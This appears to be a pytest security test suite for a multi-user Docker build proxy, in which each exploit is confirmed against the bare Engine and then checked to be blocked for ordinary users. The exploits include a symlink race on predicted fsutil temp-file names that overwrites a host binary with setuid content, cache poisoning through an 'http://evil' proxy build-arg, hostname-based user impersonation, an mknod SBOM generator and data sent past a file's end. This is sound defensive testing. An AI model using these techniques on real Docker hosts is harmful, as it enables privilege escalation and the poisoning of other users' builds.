"""What else a client of one's own could do to the host, the Engine and other users by the files and the options of a build:
not by what an entry says, as in test_build_session, but by how fsutil and BuildKit go on with it."""

import re
import stat

import pytest
from lib.build_session import End, directory, regular, symlink
from lib.builds import NUMBERS, OURS, Host, as_user, at, build, content_of, dockerfile
from lib.differential import direct_client
from lib.engine import Engine26
from lib.images import BUSYBOX
from lib.waiting import wait_until

pytestmark = pytest.mark.usefixtures("stack")

# The numbers of Go's os.CreateTemp before there was a better one, which fsutil has copied: each follows from the last.
FACTOR, SUMMAND = 1664525, 1013904223


def follow(digits, count):
    """Names that may come next. Of a number only the last nine digits are in a name, so that there are some candidates."""
    names = set()
    for number in range(digits, 1 << 32, 10**9):
        for _ in range(count):
            number = (number * FACTOR + SUMMAND) % (1 << 32)
            names.add(f".tmp.{number % 10**9:09d}")
    return sorted(names)


def changed(path, data, mode=0o644):
    return regular(path, data, mode, mtime=1_700_000_777_000_000_000 + next(NUMBERS))


def told_digits(outcome, session):
    found = re.search(r"\.tmp\.(\d{9})", " ".join([outcome.message, *session.errors]))
    return found and int(found[1])


def through_a_temporary_file(connect, host, digits=None):
    """A changed file is written to a name that was told by an error, is made before as a link, and is followed. Of each
    build: its outcome, and the digits that were told."""
    leak, target = f"leak{next(NUMBERS)}", f"target{next(NUMBERS)}"
    for key, name in ((leak, "a"), (target, "b")):
        outcome, _ = build(connect, [regular(name, "1")], shared_key=key)
        assert outcome.status == 0, outcome
    first = build(connect, [symlink("a", "x" * 5000)], shared_key=leak, timeout=20)
    digits = digits or told_digits(*first)
    links = [symlink(name, host.program) for name in follow(digits, 100)]
    context = [*links, changed("b", "evil", 0o4755)]
    second = build(connect, context, dockerfile("COPY b /b"), shared_key=target, timeout=20)
    return digits, first, second


def test_Root_Docker_no_link_stands_where_a_file_is_written_first(stack, alice):
    host = Host(stack.engine, stack.base)
    digits, _, _ = through_a_temporary_file(at(stack.engine), host)
    assert host.program.read_text().startswith("evil"), "the Engine itself would do it"
    assert stat.S_IMODE(host.program.stat().st_mode) == 0o4755
    host = Host(stack.engine, stack.base)
    _, first, second = through_a_temporary_file(as_user(alice), host, digits)
    assert not host.changed()
    for outcome, session in (first, second):
        assert outcome.status not in (0, None), outcome
        assert OURS in outcome.message
        assert told_digits(outcome, session) is None or outcome.message.count(".tmp.1") == 1
    assert stack.engine.answers()


@pytest.mark.parametrize("name", [".tmp.1", ".tmp.000000001", "d/.tmp.123456789", ".tmp.99999999999999999999"])
def test_Root_Docker_names_of_files_that_are_written_first_are_kept_free(alice, name):
    above = [directory("d")] if "/" in name else []
    for entry in (regular(name, "x"), symlink(name, "/tmp"), directory(name)):
        outcome, _ = build(as_user(alice), [*above, entry], timeout=30)
        assert outcome.status not in (0, None), outcome
        assert OURS in outcome.message


def test_Root_Docker_targets_and_names_have_a_length_that_the_host_takes(alice):
    """Of those that it does not, the Engine's error tells a name that comes next."""
    for entry in (symlink("link", "x" * 4096), regular("x" * 256, "x"), symlink("x" * 256, "y")):
        outcome, _ = build(as_user(alice), [entry], timeout=30)
        assert outcome.status not in (0, None), outcome
        assert OURS in outcome.message
    for entry in (symlink("link", "x" * 4095), regular("x" * 255, "x")):
        outcome, _ = build(as_user(alice), [entry], timeout=30)
        assert outcome.status == 0, outcome


BEHIND_THE_END = {
    "another_end": [regular("a", "1"), End()],  # and that of the session itself
    "a_file": [regular("a", "1"), End(), regular("b", "2")],
    "a_link": [regular("a", "1"), End(), symlink("b", "/tmp")],
}


@pytest.mark.parametrize("context", BEHIND_THE_END.values(), ids=BEHIND_THE_END.keys())
def test_Root_Docker_nothing_behind_the_end_of_a_context_ends_the_engine(stack, alice, spare, context):
    build(at(spare), context, timeout=30)
    wait_until(lambda: not spare.child.running(), 30, "the Engine itself to end")
    outcome, _ = build(as_user(alice), context, timeout=30)
    assert stack.engine.child.running()
    assert stack.engine.answers()
    assert outcome.status not in (0, None), outcome
    assert OURS in outcome.message


def test_Root_Docker_the_engine_fetches_no_context_under_another_key(stack, alice):
    address = "http://127.0.0.1:9/context.tar"  # where nobody listens
    elsewhere = {"contextkey": "other", "other": address}
    outcome, _ = build(at(stack.engine), [], options=elsewhere, timeout=30)
    assert "connection refused" in outcome.message, "the Engine itself fetches it"
    for options in (elsewhere, {"contextkey": "build-arg:x", "build-arg:x": address}):
        outcome, _ = build(as_user(alice), [], options=options, timeout=30)
        assert outcome.status not in (0, None), outcome
        assert 'option "contextkey" can only be "context" here' in outcome.message
    outcome, _ = build(as_user(alice), [], options={"context": address}, timeout=30)
    assert "may not fetch a build context" in outcome.message
    outcome, _ = build(as_user(alice), [], options={"dockerfilekey": "context"})
    assert 'option "dockerfilekey" can only be "dockerfile" here' in outcome.message
    usual = {"contextkey": "context", "dockerfilekey": "dockerfile"}
    outcome, _ = build(as_user(alice), [regular("x", "x")], options=usual)
    assert outcome.status == 0, outcome


GENERATOR = (
    "RUN printf '#!/bin/sh\\nmknod $BUILDKIT_SCAN_DESTINATION/a.spdx.json c 5 0\\n' > /s && chmod 755 /s",
    'ENTRYPOINT ["/s"]',
)


USUAL_GENERATOR = "docker/buildkit-syft-scanner:stable-1"  # where none is named


def test_Root_Docker_a_generator_of_ones_own_makes_no_files_for_the_engine(stack, alice):
    for image in ("ds01test/generator:1", USUAL_GENERATOR):
        outcome, _ = build(as_user(alice), [], dockerfile(*GENERATOR), image=image)
        assert outcome.status == 0, outcome
    # "disabled" is a word of buildx, which BuildKit does not know.
    attributes = [{"attest:sbom": value} for value in ("generator=ds01test/generator:1", "", "disabled=true")]
    if isinstance(stack.engine, Engine26):  # 20.10 knows no attestations
        for options in attributes:
            outcome, _ = build(at(stack.engine), [], dockerfile("RUN true"), options=options, exporter="local")
            assert "no such device or address" in outcome.message, "the Engine itself opens what it made"
    for options in [*attributes, {"attest:other": "x"}]:
        outcome, _ = build(as_user(alice), [], dockerfile("RUN true"), options=options, exporter="local")
        assert outcome.status not in (0, None), outcome
        assert "is not open to builds here; leave it away" in outcome.message, options


def made_by(connect, client, recipe, options=None):
    """What the step of `recipe` wrote, as it is in this user's image."""
    image = f"ds01test/cached{next(NUMBERS)}:1"
    outcome, _ = build(connect, [], recipe, image, options=options)
    assert outcome.status == 0, outcome
    return content_of(client, image, "/made")


def step():
    return dockerfile(f"RUN echo {next(NUMBERS)} ${{http_proxy:-none}} $(cat /proc/sys/kernel/random/uuid) > /made")


EVIL = {"build-arg:http_proxy": "http://evil"}


def test_Root_Docker_nobody_gets_what_anothers_build_made_of_a_step(stack, alice, bob):
    """What a step is told of proxies is no part of what the Engine goes by in its cache."""
    recipe, direct = step(), direct_client(stack)
    evil = made_by(at(stack.engine), direct, recipe, EVIL)
    assert "http://evil" in evil
    assert made_by(at(stack.engine), direct, recipe) == evil, "the Engine itself gives it to the next one"
    recipe = step()
    evil = made_by(as_user(alice), alice, recipe, EVIL)
    assert "http://evil" in evil
    bobs = made_by(as_user(bob), bob, recipe)
    assert "none" in bobs
    # One's own is kept.
    assert made_by(as_user(bob), bob, recipe) == bobs
    assert made_by(as_user(alice), alice, recipe) == evil


@pytest.mark.parametrize("hosts", ["{}", "{}\n", '"{}"\n', "own=10.1.2.3,{}"], ids=repr)
@pytest.mark.parametrize("spelt", ["ds01-uid-", "DS01-UID-", "d\u017f01-uid-", "ds01-u\u0130d-"], ids=ascii)
def test_Root_Docker_nobody_builds_in_anothers_name(alice, bob, spelt, hosts):
    """By the name of a host, as which ds01d tells the Engine whose a step is; Go reads the list as CSV, and in lower case."""
    recipe = step()
    options = EVIL | {"add-hosts": hosts.format(f"{spelt}{bob.user.uid}=127.0.0.1")}
    outcome, _ = build(as_user(alice), [], recipe, options=options)
    assert outcome.status is not None
    assert "none" in made_by(as_user(bob), bob, recipe)


def test_Root_Docker_hosts_of_ones_own_are_there_and_count_for_the_cache(alice, bob):
    recipe = dockerfile("RUN cat /etc/hosts /proc/sys/kernel/random/uuid > /made")
    hosts = {"add-hosts": "first.example=10.1.2.3,second.example=10.1.2.4"}
    mine = made_by(as_user(alice), alice, recipe, hosts)
    assert re.search(r"^10\.1\.2\.3\s+first\.example$", mine, re.MULTILINE)
    assert re.search(r"^10\.1\.2\.4\s+second\.example$", mine, re.MULTILINE)
    assert made_by(as_user(alice), alice, recipe, hosts) == mine
    assert "example" not in made_by(as_user(alice), alice, recipe)
    assert made_by(as_user(bob), bob, recipe, hosts) != mine


def test_Root_Docker_a_build_as_of_buildx_goes_through(alice):
    context = [
        regular(".tmp", "of a name like those"),
        regular(".tmp.1x", "another"),
        regular("empty"),
        regular("tmp.123456789", "a third"),
    ]
    options = {
        "attest:provenance": "mode=min,inline-only=true",
        "add-hosts": "own.example=10.1.2.3",
        "build-arg:WORD": "said",
        "label:colour": "green",
        "filename": "Dockerfile",
    }
    recipe = dockerfile("ARG WORD", "COPY . /ctx", "RUN (cat /ctx/.tmp /ctx/.tmp.1x; echo $WORD; cat /etc/hosts) > /made")
    image = f"ds01test/usual{next(NUMBERS)}:1"
    outcome, _ = build(as_user(alice), context, recipe, image, options=options)
    assert outcome.status == 0, outcome
    made = content_of(alice, image, "/made")
    assert made.startswith("of a name like thoseanothersaid\n")
    assert "own.example" in made
    assert alice.out("run", "--rm", image, "ls", "-A", "/ctx").split() == [one.path for one in context]
    assert alice.out("image", "inspect", "-f", "{{.Config.Labels.colour}}", image) == "green"


def from_an_empty_file(connect, attempt, number, late=b""):
    """The image of a build whose context has an empty file, and its outcome; `late`: what is sent behind its end."""
    recipe = [regular("Dockerfile", f"FROM {BUSYBOX}\nCOPY empty /made\nLABEL n={attempt}\n")]
    image = f"ds01test/late{next(NUMBERS)}:1"
    context = [regular("empty", "", 0o600 + number, late=late)]  # the mode tells this attempt from others
    outcome, session = build(connect, context, recipe, image, timeout=20)
    return outcome, image, session


def poisons(thief, owner, thiefs, owners, attempts):
    """Whether somebody's honest build has what another one has sent; outcomes of the other one's."""
    outcomes = []
    for number in attempts:
        attempt = f"{next(NUMBERS)}"
        outcome, image, _ = from_an_empty_file(thief, attempt, number, b"evil")
        outcomes.append(outcome)
        if outcome.status == 0 and not content_of(thiefs, image, "/made"):
            continue  # a matter of timing
        outcome, image, _ = from_an_empty_file(owner, attempt, number)
        assert outcome.status == 0, outcome
        if content_of(owners, image, "/made"):
            return True, outcomes
    return False, outcomes


def test_Root_Docker_nothing_behind_the_end_of_a_file_is_in_anybodys_image(stack, alice, bob):
    """Its digest, which others are told to have it by, is taken at the end."""
    bare, direct = at(stack.engine), direct_client(stack)
    assert poisons(bare, bare, direct, direct, range(0o60))[0], "the Engine itself would take it"
    poisoned, outcomes = poisons(as_user(alice), as_user(bob), alice, bob, range(0o100, 0o104))
    assert not poisoned
    for outcome in outcomes:
        assert outcome.status not in (0, None), outcome
        assert OURS in outcome.message
